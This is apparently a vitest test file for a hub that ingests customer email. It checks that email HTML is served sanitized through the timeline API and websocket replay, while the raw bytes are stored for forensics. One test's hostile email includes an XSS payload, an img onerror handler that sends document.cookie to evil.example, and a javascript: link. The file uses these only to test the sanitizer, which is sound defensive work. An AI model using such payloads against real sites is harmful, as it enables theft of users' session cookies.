import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TimelinePageSchema, type IngestEvent, type TimelineItem } from '../../shared/index.js';
import { startHub, type RunningHub } from '../hub.js';
import { TEST_INGEST_KEY, makeEvent, testStore, testConfig, uniqueWho } from '../http/test-support.js';
import { connect, ingest, login, record, waitFor, watch, type ClientSocket } from '../realtime/test-client.js';
import { emailHtmlForClients } from './client-items.js';
import { unsafeParts, xssCorpus } from './xss-corpus.js';

/*
 * Email HTML is safe from every consumer: whatever HTML an email carries, the API (timeline pages,
 * live socket items, socket replay) hands out only sanitized HTML, while the database keeps the
 * original bytes for forensics.
 */

let hub: RunningHub;
let token: string;
let removeDir: () => Promise<void>;
const sockets: ClientSocket[] = [];

beforeAll(async () => {
  const dir = await testStore('email-html');
  removeDir = dir.remove;
  hub = await startHub(testConfig(dir));
  token = await login(hub.url);
});
afterAll(async () => {
  for (const s of sockets) s.close();
  await hub?.close();
  await removeDir?.();
});

const emailWith = (who: ReturnType<typeof uniqueWho>, html: string, i: number): IngestEvent =>
  makeEvent(who, { sourceEventId: `xss-${i}-${who.email}`, data: { subject: `Newsletter ${i}`, text: 'plain part', html } });

async function timeline(customerId: string): Promise<TimelineItem[]> {
  const items: TimelineItem[] = [];
  let before: string | null = null;
  do {
    const res: Response = await fetch(`${hub.url}/api/v1/customers/${customerId}/timeline?limit=200${before ? `&before=${encodeURIComponent(before)}` : ''}`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    const page = TimelinePageSchema.parse(await res.json());
    items.push(...page.items);
    before = page.nextCursor;
  } while (before);
  return items;
}

async function storedHtml(customerId: string): Promise<Map<string, string>> {
  const domain = hub.domain as unknown as { database: { db: import('../storage/schema.js').Db } };
  const rows = await domain.database.db.selectFrom('events').select(['source_event_id', 'data']).where('customer_id', '=', customerId).execute();
  return new Map(rows.map((r) => [r.source_event_id, (JSON.parse(r.data) as { html?: string }).html ?? '']));
}

describe('email HTML through the API', () => {
  const corpus = xssCorpus();

  it(`timeline pages return only sanitized HTML for an XSS corpus of ${corpus.length} payloads; the stored event keeps the raw bytes`, async () => {
    expect(corpus.length).toBeGreaterThan(300);
    // The checker must see the danger in the raw payloads, or a pass below would mean nothing.
    expect(corpus.filter((h) => unsafeParts(h).length > 0).length).toBeGreaterThan(corpus.length * 0.8);
    const who = uniqueWho('xss');
    const events = corpus.map((html, i) => emailWith(who, html, i));
    let customerId = '';
    for (let i = 0; i < events.length; i += 200) customerId = (await ingest(hub.url, events.slice(i, i + 200)))[0]!.customerId;

    const items = await timeline(customerId);
    expect(items).toHaveLength(corpus.length);
    const failures: string[] = [];
    for (const item of items) {
      const html = item.data['html'];
      expect(typeof html).toBe('string');
      const problems = unsafeParts(html as string);
      if (problems.length) failures.push(`${item.sourceEventId}: ${problems.join(', ')} in ${String(html).slice(0, 200)}`);
    }
    expect(failures).toEqual([]);

    // Forensics: the database still holds exactly what arrived, dangerous parts included.
    const stored = await storedHtml(customerId);
    corpus.forEach((html, i) => expect(stored.get(`xss-${i}-${who.email}`)).toBe(html));
    expect([...stored.values()].some((h) => /<script/i.test(h))).toBe(true);
  }, 240_000);

  it('keeps what an email needs: text, layout, styles, links, inline and remote images (the console blocks remote ones itself)', async () => {
    const who = uniqueWho('keep');
    const html =
      '<table width="600" align="center" cellpadding="4"><tr><td colspan="2" style="color:#333;background:url(https://cdn.example/bg.png)">Hi <b>Ann</b></td></tr></table>' +
      '<p><a href="https://shop.example/order/1">Your order</a> · <a href="mailto:help@shop.example">help</a></p>' +
      '<img src="https://cdn.example/logo.png" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><img src="cid:part1@shop" alt="inline">';
    const [r] = await ingest(hub.url, [emailWith(who, html, 0)]);
    const [item] = await timeline(r!.customerId);
    const out = item!.data['html'] as string;
    for (const kept of ['width="600"', 'align="center"', 'colspan="2"', 'Hi <b>Ann</b>', 'href="https://shop.example/order/1"', 'rel="noopener noreferrer"', 'mailto:help@shop.example', 'https://cdn.example/logo.png', 'data:image/png;base64,iVBORw0KGgo=', 'cid:part1@shop', 'url(https://cdn.example/bg.png)']) {
      expect(out).toContain(kept);
    }
  });

  it('live socket items and replay carry sanitized HTML too, in commit order', async () => {
    const who = uniqueWho('live');
    const [first] = await ingest(hub.url, [makeEvent(who)]);
    const customerId = first!.customerId;
    const s = await connect(hub.url, { token });
    sockets.push(s);
    const live = record(s, 'timeline:item');
    expect((await watch(s, { customerId })).ok).toBe(true);

    const payloads = corpus.slice(0, 40);
    await ingest(hub.url, payloads.map((html, i) => emailWith(who, html, 1000 + i)));
    await waitFor(() => live.length >= payloads.length, 'live email items');
    const seqs = live.map((e) => e.seq);
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    for (const e of live) expect(unsafeParts(String(e.item.data['html'])), String(e.item.data['html'])).toEqual([]);

    const r2 = await connect(hub.url, { token });
    sockets.push(r2);
    const replayed = record(r2, 'timeline:item');
    const ack = await watch(r2, { customerId, sinceSeq: 0 });
    expect(ack.ok && ack.replayed).toBeGreaterThanOrEqual(payloads.length);
    for (const e of replayed) if (typeof e.item.data['html'] === 'string') expect(unsafeParts(e.item.data['html'])).toEqual([]);
  });

  it('raw RFC 822 mail through the email connector: the API answers sanitized, the stored event keeps the original HTML', async () => {
    const who = uniqueWho('mime');
    const hostile = '<p>Hello</p><img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)"><a href="javascript:alert(1)">x</a>';
    const mime = [
      `From: Ann <${who.email}>`,
      'To: support@shop.example',
      'Subject: hostile',
      `Message-ID: <hostile-${who.email}>`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      hostile,
      '',
    ].join('\r\n');
    const res = await fetch(`${hub.url}/api/v1/connectors/email`, { method: 'POST', headers: { 'content-type': 'message/rfc822', authorization: `Bearer ${TEST_INGEST_KEY}` }, body: mime });
    expect(res.status).toBe(202);
    const search = await fetch(`${hub.url}/api/v1/customers?q=${encodeURIComponent(who.email)}`, { headers: { authorization: `Bearer ${token}` } });
    const customerId = ((await search.json()) as { customers: { id: string }[] }).customers[0]!.id;
    const [item] = await timeline(customerId);
    const html = item!.data['html'] as string;
    expect(html).toContain('<p>Hello</p>');
    expect(unsafeParts(html)).toEqual([]);
    expect(html).not.toMatch(/onerror|javascript:/i);
    const stored = [...(await storedHtml(customerId)).values()][0]!;
    expect(stored).toContain('onerror=');
    expect(stored).toContain('javascript:alert(1)');
  });

  it('serves the same email again from its cache instead of parsing it twice', async () => {
    const who = uniqueWho('cache');
    const [r] = await ingest(hub.url, [emailWith(who, '<p>Cached <i>body</i></p><script>x()</script>', 0)]);
    await timeline(r!.customerId);
    const before = { ...emailHtmlForClients.stats };
    await timeline(r!.customerId);
    expect(emailHtmlForClients.stats.sanitized).toBe(before.sanitized);
    expect(emailHtmlForClients.stats.cacheHits).toBe(before.cacheHits + 1);
  });
});
